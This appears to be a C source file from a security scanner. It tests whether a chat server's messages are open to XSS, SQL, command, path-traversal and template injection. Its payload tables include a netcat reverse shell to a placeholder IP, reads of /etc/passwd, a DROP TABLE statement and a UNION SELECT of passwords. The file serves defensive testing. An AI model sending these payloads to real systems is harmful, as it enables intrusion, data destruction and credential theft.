/* check_input.c: attacks in what a user who is logged in says, judged by what a second client gets, and by what the
 * server did with it: markup that is live, an expression that was computed, a file that was read. */
#include <ctype.h>

#include "base/slice.h"
#include "scan/check.h"
#include "scan/input.h"

static const struct input_markup markups[] = {
	{ "<script>alert(1)</script>", "<script", "" },
	{ "<img src=x onerror=alert(1)>", "<img", "onerror" },
	{ "<svg/onload=alert(1)>", "<svg", "onload" },
	{ "<a href=\"javascript:alert(1)\">x</a>", "<a", "javascript:" },
	{ "<iframe src=\"javascript:alert(1)\"></iframe>", "<iframe", "javascript:" },
	{ "<body onload=alert(1)>", "<body", "onload" },
};

/* Is the tag there, with that in it, as a browser would read it? */
bool input_is_live(struct fw_slice text, const struct input_markup *markup)
{
	size_t size = strlen(markup->tag), more = strlen(markup->within);

	for (size_t at = 0; at + size <= text.size; at++) {
		size_t end = at;

		if (!slice_equal_nocase(slice(text.data + at, size), slice_text(markup->tag)))
			continue;
		while (end < text.size && text.data[end] != '>')
			end++;
		for (size_t i = at; i + more <= end || more == 0; i++)
			if (more == 0 || slice_equal_nocase(slice(text.data + i, more), slice_text(markup->within)))
				return true;
	}
	return false;
}

struct client *input_sender(struct scan_trial *trial, struct client *sender)
{
	if (sender != NULL && sender->open)
		return sender;
	return check_client(trial, 0, "attacker", NULL);
}

void check_xss(struct scan_trial *trial)
{
	struct client *sender = NULL;

	if (!trial->work->profile.html) {
		trial_skip(trial, "the profile says that texts are no HTML (expect.html: false)");
		return;
	}
	if (!speak_parties(trial))
		return;
	for (size_t i = 0; i < sizeof(markups) / sizeof(*markups); i++) {
		const char *mark = trial_mark(trial);
		struct fw_slice got;
		enum speak_seen seen;

		sender = input_sender(trial, sender);
		if (sender == NULL)
			return;
		(void)client_send_text(
			sender, slice_text(speak_message(
					trial, sender, slice_text(trial_text(trial, "%s %s", mark, markups[i].text)))));
		seen = speak_seen(trial, sender, mark, &got);
		if (seen == SPEAK_SEEN && input_is_live(got, &markups[i])) {
			trial_note(trial, "got", got);
			trial_finding(trial, "markup arrives at %s as it was sent: %s",
				      trial->work->seen_by_others ? "a second client" : "its sender", markups[i].text);
			return;
		}
		if (seen == SPEAK_UNKNOWN) {
			trial_error(trial, "the message with %s %s", markups[i].text, speak_seen_text(seen));
			return;
		}
		trial_say(trial, "%s %s", markups[i].text,
			  seen == SPEAK_SEEN ? "was delivered without its effect" : speak_seen_text(seen));
	}
	trial_pass(trial, "%zu texts with markup that runs arrived without it, or not",
		   sizeof(markups) / sizeof(*markups));
}

/* answer: what only a server has that did it. blatant: one that inspection refuses. */
struct attack {
	const char *text, *answer;
	bool blatant;
};

static bool has_word(const char *heard, const char *word)
{
	return strstr(heard, word) != NULL;
}

/* What was computed, or read, is in what anybody was told; a text that only came back is not. */
static bool took_effect(const struct attack *attack, const char *mark, const char *heard, struct fw_slice got)
{
	if (attack->answer == NULL)
		return false;
	(void)mark;
	return has_word(heard, attack->answer) ||
	       (got.size != 0 && memmem(got.data, got.size, attack->answer, strlen(attack->answer)) != NULL);
}

static void attacks(struct scan_trial *trial, const struct attack *rows, size_t count, const char *what)
{
	const struct profile *profile = &trial->work->profile;
	struct client *sender = NULL;
	unsigned delivered = 0;

	if (!speak_parties(trial))
		return;
	for (unsigned pattern = 0; pattern <= profile->input_count; pattern++)
		for (size_t i = 0; i < count; i++) {
			const char *mark = trial_mark(trial);
			const char *text = trial_text(trial, "%s %s", mark, rows[i].text);
			struct fw_slice got;
			enum speak_seen seen;

			sender = input_sender(trial, sender);
			if (sender == NULL)
				return;
			sender->heard_size = 0;
			sender->heard[0] = '\0';
			(void)client_send_text(
				sender,
				slice_text(speak_fill(
					trial, pattern == 0 ? profile->send : profile->inputs[pattern - 1],
					&(struct speak_values){ .text = slice_text(pattern == 0 ? text : rows[i].text),
								.answer = sender->login_answer })));
			seen = speak_seen(trial, sender, mark, &got);
			if (took_effect(&rows[i], mark, sender->heard, got)) {
				trial_finding(trial, "%s took effect: the answer has \"%s\", which was not sent", what,
					      rows[i].answer);
				return;
			}
			if (seen == SPEAK_UNKNOWN && pattern == 0) {
				trial_error(trial, "the message with %s %s", rows[i].text, speak_seen_text(seen));
				return;
			}
			delivered += seen == SPEAK_SEEN;
			if (seen == SPEAK_SEEN && profile->inspects && rows[i].blatant &&
			    memmem(got.data, got.size, rows[i].text, strlen(rows[i].text)) != NULL) {
				trial_finding(trial, "what is wanted to be refused was delivered as it was sent: %s",
					      rows[i].text);
				return;
			}
		}
	trial_pass(trial, "%s had no effect%s", what,
		   delivered != 0 ? "; as texts they were delivered" : ", and was not delivered");
}

void check_sql(struct scan_trial *trial)
{
	static const struct attack rows[] = {
		{ "scan' || 'ned40213x", "scanned40213x", false },
		{ "scan' 'ned40213y", "scanned40213y", false },
		{ "'", "SQLSTATE", false },
		{ "'\"", "sqlite3.", false },
		{ "')", "SQL syntax", false },
		{ "';", "unrecognized token", false },
		{ "\"'--", "unterminated quoted string", false },
		{ "x' OR '1'='1' --", NULL, true },
		{ "1; DROP TABLE users; --", NULL, true },
		{ "' UNION SELECT name, password FROM users --", NULL, true },
	};

	attacks(trial, rows, sizeof(rows) / sizeof(*rows), "SQL in a text");
}

void check_command(struct scan_trial *trial)
{
	static const struct attack rows[] = {
		{ "$(expr 7340021 + 912345678)", "919685699", false },
		{ "`expr 7340021 + 912345678`", "919685699", false },
		{ "; expr 7340021 + 912345678", "919685699", false },
		{ "| expr 7340021 + 912345678", "919685699", false },
		{ "; cat /etc/passwd", NULL, true },
		{ "$(cat /etc/passwd)", NULL, true },
		{ "| nc 192.0.2.1 4444 -e /bin/sh", NULL, true },
	};

	attacks(trial, rows, sizeof(rows) / sizeof(*rows), "a command in a text");
}

void check_path(struct scan_trial *trial)
{
	static const struct attack rows[] = {
		{ "../../../../../../../../etc/passwd", "root:x:0:0:", true },
		{ "..%2f..%2f..%2f..%2f..%2f..%2fetc%2fpasswd", "root:x:0:0:", true },
		{ "....//....//....//....//....//etc/passwd", "root:x:0:0:", false },
		{ "/etc/passwd", "root:x:0:0:", false },
		{ "file:///etc/passwd", "root:x:0:0:", false },
	};

	attacks(trial, rows, sizeof(rows) / sizeof(*rows), "a path in a text");
}

void check_template(struct scan_trial *trial)
{
	static const struct attack rows[] = {
		{ "{{91121*98713}}", "8994827273", true },
		{ "${91121*98713}", "8994827273", true },
		{ "#{91121*98713}", "8994827273", false },
		{ "<%= 91121*98713 %>", "8994827273", false },
	};

	attacks(trial, rows, sizeof(rows) / sizeof(*rows), "an expression of a template");
}
